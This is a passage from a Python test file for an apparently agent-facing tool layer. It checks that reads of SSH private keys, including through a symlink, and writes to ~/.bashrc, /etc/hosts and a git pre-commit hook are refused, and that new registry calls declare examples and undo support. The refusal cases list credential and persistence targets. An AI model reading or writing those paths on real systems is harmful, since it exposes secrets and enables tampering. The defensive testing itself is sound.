    (env.cwd / "keys").symlink_to(env.home / ".ssh")  # a walk started at keys/ finds .ssh on disk
    assert read.refusal(str(env.cwd / "keys/id_rsa"), str(env.home / ".ssh/id_rsa")) is not None
    for path in (str(env.home / ".bashrc"), "/etc/hosts", "/x", str(env.cwd / "r/.git/hooks/pre-commit"),
                 str(env.state / "journal.jsonl")):
        assert write.refusal(path, path) is not None, path
    for path in (str(env.cwd / "notes.txt"), str(env.home / ".bashrc.bak"), str(env.cwd / "r/.git/objects/x")):
        assert read.refusal(path, path) is None, path
    assert write.refusal(str(env.cwd / "notes.txt"), str(env.cwd / "notes.txt")) is None
    assert write.refusal(str(env.cwd / "r/.gitignore"), str(env.cwd / "r/.gitignore")) is None


# ---------------------------------------------------------------- the registry

NEW = ("fs.duplicates", "archive.gzip", "archive.gunzip", "table.save", "fs.rename_ext")


@pytest.mark.parametrize("name", NEW)
def test_new_calls_are_declared_like_their_peers(name: str) -> None:
    spec = REG.get(name)
    assert 3 <= len(spec.examples) <= 5 and 10 <= len(spec.phrasings) <= 20
    if spec.risk.value != "read":
        assert spec.undoable and spec.preview is not None
